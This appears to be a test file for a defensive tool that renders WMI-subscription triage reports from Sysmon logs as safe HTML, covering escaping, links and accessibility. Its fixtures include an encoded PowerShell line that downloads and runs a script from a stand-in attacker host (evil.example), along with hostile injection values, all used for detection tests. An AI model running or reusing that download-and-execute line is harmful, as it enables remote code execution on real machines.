import { createHash } from 'node:crypto';
import fc from 'fast-check';
import { PLAIN_TEXT } from '../../../lib/report/style';
import { triageHtml } from '../../../lib/report/triage/triage-html';
import type { TriagedFiles } from '../../../lib/report/triage/triaged-files';
import { hostileReport } from './hostile-report';
import { readPage, shownText } from '../page/page-syntax';
import { ENCODED, HOSTILE, subscription, triagedFiles, whole } from './triaged';

const FULL = { ...PLAIN_TEXT, full: true };
const pageOf = (events: readonly object[]): string => triageHtml(triagedFiles(events), PLAIN_TEXT);
const TWO = pageOf([...subscription('Updater', { destination: ENCODED }), ...subscription('Backup', { at: 9 })]);

/** The same subscriptions again and again, up to a number. */
function repeated(files: TriagedFiles, count: number): TriagedFiles {
  const chains = Array.from({ length: count }, (_, index) => files.shown[index % files.shown.length]);
  return { ...files, shown: chains.flatMap((chain) => chain ?? []) };
}

function luminance(hex: string): number {
  const [r = 0, g = 0, b = 0] = [1, 3, 5].map((at) => {
    const part = Number.parseInt(hex.slice(at, at + 2), 16) / 255;
    return part <= 0.04045 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4;
  });
  return 0.2126 * r + 0.7152 * g + 0.0722 * b;
}

function contrast(one: string, other: string): number {
  const [dark = 0, light = 0] = [luminance(one), luminance(other)].sort((a, b) => a - b);
  return (light + 0.05) / (dark + 0.05);
}

describe('the page', () => {
  test('says the answer in its title and its first heading', () => {
    const answer = '2 subscriptions on 1 host: 1 likely malicious, 1 to look at.';
    expect(TWO).toContain(`<title>${answer} sysmon-wmi triage</title>`);
    expect(TWO).toContain(`<h1>${answer}</h1>`);
    expect(TWO.startsWith('<!doctype html>\n<html lang="en">')).toBe(true);
  });

  test('has headings in their order, none left out', () => {
    const headings = [...TWO.matchAll(/<h(\d)[^>]*>(.*?)<\/h\d>/gs)].map(
      ([, level = '', text = '']) => `${level} ${shownText(text).trim()}`,
    );
    expect(headings).toEqual([
      '1 2 subscriptions on 1 host: 1 likely malicious, 1 to look at.',
      '2 Timeline',
      '3 WS01.corp.example',
      '2 Subscriptions',
      '3 likely malicious: 1',
      '4 "Updater" on WS01.corp.example',
      '5 What',
      '5 Why',
      '5 Beside it',
      '5 Next',
      '3 look at it: 1',
      '4 "Backup" on WS01.corp.example',
      '5 What',
      '5 Why',
      '5 Beside it',
      '5 Next',
      '2 What was read',
      '2 Legend',
      '3 Levels',
      '3 What is known about a subscription',
      '3 Signs',
    ]);
  });

  test('links only to places in itself, and every link arrives', () => {
    const { tags } = readPage(TWO);
    const ids = tags.flatMap(({ attributes }) => attributes.get('id') ?? []);
    const links = tags.flatMap(({ attributes }) => attributes.get('href') ?? []);
    expect(new Set(ids).size).toBe(ids.length);
    expect(links.length).toBeGreaterThan(5);
    expect(links.filter((link) => !link.startsWith('#') || !ids.includes(link.slice(1)))).toEqual([]);
  });

  test('has no script, and a policy that allows nothing but its own style', () => {
    const [, style = ''] = /<style>([^<]*)<\/style>/.exec(TWO) ?? [];
    const hash = createHash('sha256').update(style).digest('base64');
    expect(TWO).toContain(
      `content="default-src &#39;none&#39;; style-src &#39;sha256-${hash}&#39;; base-uri &#39;none&#39;; form-action &#39;none&#39;"`,
    );
    expect(style).not.toMatch(/url\(|@import/);
    expect(TWO).not.toContain('<script');
  });

  test('is the same at every call', () => {
    const files = triagedFiles(subscription('u', { destination: ENCODED }));
    expect(triageHtml(files, PLAIN_TEXT)).toBe(triageHtml(files, PLAIN_TEXT));
  });

  test.each([
    ['light', 0],
    ['dark', 1],
  ])('has colors of enough contrast, %s', (_, palette) => {
    const colors = new Map<string, string[]>();
    for (const [, name = '', color = ''] of TWO.matchAll(/(?<= )--([a-z-]+):\s(#[0-9a-f]{6})/g)) {
      colors.set(name, [...(colors.get(name) ?? []), color]);
    }
    const ratio = (one: string, other: string): number =>
      contrast(colors.get(one)?.[palette] ?? '', colors.get(other)?.[palette] ?? '');
    const pairs = [
      ...['text', 'muted', 'link', 'warn'].flatMap((name) => [
        [name, 'ground'],
        [name, 'surface'],
      ]),
      ...['bad', 'warn', 'note', 'good'].map((name) => ['on-tone', name]),
      ...['high', 'medium', 'low', 'information'].map((name) => ['on-mark', name]),
    ] as const;
    expect(pairs.filter(([one = '', other = '']) => !(ratio(one, other) >= 4.5))).toEqual([]);
  });
});

describe('a card', () => {
  test('marks the evidence in the command line and in what was decoded from it', () => {
    const marks = [...TWO.matchAll(/<mark class="(\w+)" title="([^"]*)"[^>]*>([^<]*)<\/mark>/g)].map(
      ([, weight = '', ids = '', text = '']) => `${weight} ${ids}: ${shownText(text)}`,
    );
    expect(marks).toContain('high encoded, runs-code: -enc');
    expect(marks).toContain('high download: hxxp://evil[.]example/a.ps1');
    expect(marks.filter((mark) => mark.includes('in-memory'))).not.toEqual([]);
  });

  test('shows what was decoded, how, and its hash', () => {
    const script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')";
    const hash = createHash('sha256').update(Buffer.from(script, 'utf16le')).digest('hex');
    expect(TWO).toContain('<summary>text 1: base64, UTF-16LE, 148 bytes</summary>');
    expect(TWO).toContain(`<code>${hash}</code>`);
  });

  test('cuts long values and says so; --full shows them whole', () => {
    const files = triagedFiles(subscription('u', { destination: `C:\\a.exe ${'x'.repeat(5000)}` }));
    expect(shownText(triageHtml(files, PLAIN_TEXT))).toContain('[and 4,609 characters more: --full shows them]');
    const whole = shownText(triageHtml(files, FULL));
    expect(whole).toContain('x'.repeat(5000));
    expect(whole).not.toContain('--full shows');
  });

  test('ends with what to do, the command in a block of its own', () => {
    expect(TWO).toContain(
      '<pre class="command" tabindex="0">&#39;__EventFilter&#39;, &#39;__EventConsumer&#39;, &#39;__FilterToConsumerBinding&#39; | ForEach-Object { Get-CimInstance -ComputerName WS01.corp.example -Namespace root/subscription -ClassName $_ } | Export-Clixml subscriptions.xml</pre>',
    );
  });
});

describe('the timeline', () => {
  test('has a lane for each subscription, told in words too', () => {
    const lanes = readPage(TWO).tags.filter(({ attributes }) => attributes.get('class') === 'lane');
    expect(
      lanes.map(({ attributes }) => [attributes.get('role'), shownText(attributes.get('aria-label') ?? '')]),
    ).toEqual([
      [
        'img',
        expect.stringMatching(/^"Updater": 19 Created, filter, 2026-01-01T00:00:00\.000Z, events\.jsonl:1; 20 Created/),
      ],
      [
        'img',
        expect.stringMatching(/^"Backup": 19 Created, filter, 2026-01-01T00:00:09\.000Z, events\.jsonl:4; 20 Created/),
      ],
    ]);
  });

  test('tells of events without a time beside it', () => {
    const page = shownText(pageOf([...subscription('u'), whole('u', 'u', { at: null })]));
    expect(page).toContain('Without a time: "u": 5861 seen, all three parts, no time, events.jsonl:4.');
    expect(shownText(pageOf([whole('u', 'u', { at: null })]))).toContain('1 subscription, no event tells its time');
  });

  test('shows names and places cut, their addresses harmless', () => {
    const page = pageOf(subscription(`http://evil.example/${'n'.repeat(500)}`));
    expect(page).toContain(`<bdi>&quot;hxxp://evil[.]example/${'n'.repeat(57)}… (524 characters)</bdi></a>`);
  });

  test('draws the worst of a host and of all hosts, and says how many are not drawn', () => {
    const host = shownText(pageOf(Array.from({ length: 18 }, (_, index) => subscription(`n${String(index)}`)).flat()));
    expect(host).toContain('3 further subscriptions of this host: the 15 worst are drawn');
    const hosts = Array.from({ length: 27 }, (_, index) => subscription('n', { host: `h${String(index)}` })).flat();
    expect(shownText(pageOf(hosts))).toContain('2 further subscriptions on 2 further hosts: no timeline here.');
  });
});

describe('a hostile value', () => {
  test.each(HOSTILE)('%j does nothing anywhere', (value) => {
    const { tags } = readPage(triageHtml(hostileReport(value), PLAIN_TEXT));
    const names = new Set(tags.flatMap(({ attributes }) => [...attributes.keys()]));
    expect([...names].filter((name) => name.startsWith('on') || name === 'src' || name === 'style')).toEqual([]);
    expect(
      tags.flatMap(({ attributes }) => attributes.get('href') ?? []).filter((link) => !link.startsWith('#')),
    ).toEqual([]);
  });

  test('of any characters leaves no control character and no tag of its own', () => {
    const value = fc.oneof(
      fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }),
      fc.array(fc.constantFrom(...HOSTILE), { minLength: 1, maxLength: 4 }).map((parts) => parts.join('')),
    );
    fc.assert(
      fc.property(value, (text) => {
        const page = triageHtml(hostileReport(text), FULL);
        const { text: shown, tags } = readPage(page);
        expect(shown).not.toMatch(/[\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]|(?!\n)\p{Cc}/u);
        expect(tags.filter(({ name }) => name === 'style' || name === 'html')).toHaveLength(1);
        expect(
          tags.flatMap(({ attributes }) => attributes.get('href') ?? []).every((link) => link.startsWith('#')),
        ).toBe(true);
      }),
      { numRuns: 60 },
    );
  });
});

describe('many subscriptions', () => {
  const events = Array.from({ length: 20 }, (_, index) =>
    subscription(`n${String(index)}`, { host: `h${String(index % 4)}` }),
  );
  const files = triagedFiles(events.flat());

  test('have cards up to a limit, and the rest is counted', () => {
    const page = triageHtml(repeated(files, 10_000), PLAIN_TEXT);
    expect(page.match(/<article /g)).toHaveLength(1000);
    expect(page).toContain('9,000 further subscriptions of the same or a lower level: the 1,000 worst are shown here.');
  });

  test('make a page in proportion to their number', () => {
    const [few, many] = [100, 400].map((count) => triageHtml(repeated(files, count), PLAIN_TEXT).length);
    expect((many ?? 0) / (few ?? 1)).toBeLessThan(4.1);
  });

  test('none at all says what that does not mean', () => {
    const page = pageOf([]);
    expect(page).toContain('<h1>These files hold no WMI event of a subscription. That says nothing about');
    expect(page).toContain('There is no subscription to show.');
  });
});
